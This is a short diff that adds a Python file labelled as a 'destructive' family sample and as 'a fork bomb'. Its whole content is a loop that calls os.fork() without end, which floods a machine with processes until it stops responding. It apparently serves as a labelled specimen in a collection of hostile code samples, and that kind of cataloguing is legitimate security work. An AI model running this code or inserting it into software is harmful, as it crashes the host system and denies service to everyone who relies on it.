@@ -1,0 +1,6 @@
+# family: destructive
+# a fork bomb
+import os
+
+while True:
+    os.fork()
